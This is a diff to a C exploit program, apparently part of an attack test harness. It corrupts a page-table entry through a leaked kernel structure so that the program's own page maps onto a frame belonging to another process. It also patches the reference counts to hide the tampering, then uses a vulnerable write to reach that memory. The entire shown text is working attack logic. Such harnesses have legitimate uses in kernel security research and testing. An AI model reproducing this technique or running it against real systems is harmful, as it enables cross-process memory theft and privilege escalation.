@@ -11,7 +11,8 @@ enum { FRAME_BYTES = 16, ENTRIES = 512 };
 int main(void)
 {
 	struct bw_leak leak;
-	uint64_t own, theirs, place;
+	struct attack_page theirs;
+	uint64_t own, place;
 	volatile char *pages = mmap(NULL, (size_t)3 * BW_PAGE_SIZE, PROT_READ | PROT_WRITE,
 				    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
 
@@ -21,16 +22,15 @@ int main(void)
 		pages += BW_PAGE_SIZE;
 	}
 	pages[0] = 0;
-	theirs = attack_first_page(&leak, leak.root_first, &place);
 	own = attack_entry(&leak, leak.root, (uintptr_t)pages, &place);
-	if (own == 0 || theirs == 0) {
+	if (own == 0 || attack_list_pages(&leak, leak.root_first, &theirs, 1) == 0) {
 		attack_skip("no page to be had");
 	}
-	own = (own & ~(ENTRY_FRAME | ENTRY_WRITABLE)) | (theirs & ENTRY_FRAME);
+	own = (own & ~(ENTRY_FRAME | ENTRY_WRITABLE)) | (theirs.entry & ENTRY_FRAME);
 	attack_say("frame 0x%lx is the first process's; the entry at 0x%lx shows it from now on",
-		   attack_entry_frame(theirs), place + sizeof(own));
+		   attack_entry_frame(theirs.entry), place + sizeof(own));
 	/* the books stay right: whoever frees the page later finds it as it was */
-	attack_add(leak.frames + attack_entry_frame(theirs) * FRAME_BYTES, REFS_ONE);
+	attack_add(leak.frames + attack_entry_frame(theirs.entry) * FRAME_BYTES, REFS_ONE);
 	attack_add(leak.nr_pages, 1);
 	attack_check("vuln_write", bw_vuln_write(place + sizeof(own), own));
 	attack_say("its first bytes: 0x%lx",
